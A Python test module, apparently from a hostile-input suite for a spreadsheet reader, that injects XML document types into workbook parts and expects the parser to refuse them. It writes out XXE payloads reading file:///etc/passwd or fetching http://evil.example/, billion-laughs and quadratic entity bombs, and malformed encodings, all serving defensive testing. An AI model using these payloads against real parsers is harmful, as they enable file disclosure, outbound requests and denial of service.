"""Document types, entities and encodings, in every part that is XML."""

from __future__ import annotations

from dataclasses import dataclass

from tests.hostile.case import Made, Topic, either, refused
from tests.hostile.package import CONTENT_TYPES, RELATIONS, STRINGS, STYLES, THEME, WORKBOOK, Package

ENTITIES = Topic("entities")
DOCTYPE = '<!DOCTYPE a [<!ENTITY b "c">]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
)
QUADRATIC = f"<!DOCTYPE a [<!ENTITY b '{'x' * 100_000}'>]>"
DECLARATIONS = {
    "an entity": DOCTYPE,
    "a document type without entities": "<!DOCTYPE worksheet>",
    "an entity from a file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "an entity from the web": '<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/">]>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/"> %b;]>',
    "a billion laughs": LAUGHS,
    "a quadratic blow-up": QUADRATIC,
    "an outside document type": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
}
USES = {"a billion laughs": "&l9;", "a quadratic blow-up": "&b;" * 5_000}


def declared(text: str, declaration: str) -> str:
    """Return XML with a declaration before its first element."""
    end = text.index("?>") + 2 if text.startswith("<?xml") else 0
    return text[:end] + declaration + text[end:]


@dataclass(frozen=True)
class Declared:
    """A declaration, and where it is used."""

    declaration: str
    use: str


def in_sheet(package: Package, told: Declared) -> Made:
    """Return a workbook with a declaration in a sheet, used as a number."""
    text = declared(package.with_raw(package.number(), told.use).sheet_text("Demand"), told.declaration)
    return refused(package.with_part(package.sheets["Demand"], text), "document-type", "Demand")


ENTITIES.named(
    {name: Declared(declaration, USES.get(name, "1")) for name, declaration in DECLARATIONS.items()},
    lambda name: f"{name} in a sheet",
    in_sheet,
)
ENTITIES.named(
    DECLARATIONS,
    lambda name: f"{name} in the texts",
    lambda package, declaration: refused(
        package.with_part(STRINGS, declared(package.text(STRINGS), declaration)), "document-type"
    ),
)
ENTITIES.each(
    (
        WORKBOOK,
        RELATIONS,
        STYLES,
        THEME,
        CONTENT_TYPES,
        "_rels/.rels",
        "docProps/core.xml",
        "xl/comments1.xml",
        "xl/drawings/vmlDrawing1.vml",
        "xl/tables/table1.xml",
        "xl/worksheets/_rels/sheet2.xml.rels",
    ),
    lambda part: f"a document type in {part}",
    lambda package, part: refused(package.with_part(part, declared(package.text(part), DOCTYPE)), "document-type"),
)
ENTITIES.each(
    ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "latin-1", "utf-8-sig"),
    lambda code: f"a sheet in {code}",
    lambda package, code: either(
        package.with_part(
            package.sheets["Demand"],
            package.sheet_text("Demand").replace("UTF-8", code.replace("-sig", ""), 1).encode(code, "replace"),
        )
    ),
)
ENTITIES.each(
    ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "latin-1", "utf-8-sig"),
    lambda code: f"a document type in a sheet in {code}",
    lambda package, code: refused(
            package.with_part(
                package.sheets["Demand"],
                declared(package.sheet_text("Demand").replace("UTF-8", code.replace("-sig", ""), 1), DOCTYPE).encode(
                    code, "replace"
                ),
            ),
            "", "",
        ),
)  # fmt: skip
ENTITIES.named(
    {
        "an unknown encoding": '<?xml version="1.0" encoding="klingon"?>',
        "an encoding without a name": '<?xml version="1.0" encoding=""?>',
        "version 1.1": '<?xml version="1.1" encoding="UTF-8"?>',
        "a style sheet": '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/a.xsl"?>',
        "two declarations": '<?xml version="1.0"?><?xml version="1.0"?>',
    },
    lambda name: f"a sheet that declares {name}",
    lambda package, declaration: either(
        package.with_sheet("Demand", lambda text: declaration + text[text.index("?>") + 2 :])
    ),
)
ENTITIES.each(
    ("&undefined;", "&#0;", "&#1;", "&#xD800;", "&#xFFFF;", "&#x110000;", "&", "&amp", "<", "]]>"),
    lambda reference: f"{reference} as a number",
    lambda package, reference: refused(package.with_raw(package.number(), reference), "", ""),
)
ENTITIES.each(
    ("&undefined;", "&#0;", "&#1;", "&#xD800;", "&#xFFFF;", "&#x110000;", "&", "&amp", "<", "]]>"),
    lambda reference: f"{reference} in a text",
    lambda package, reference: either(
        package.with_xml(
            package.first("Settings", "setting").down(20),
            lambda cell, style: f'<c r="{cell}" t="inlineStr"><is><t>#{reference}</t></is></c>',
        )
    ),
)
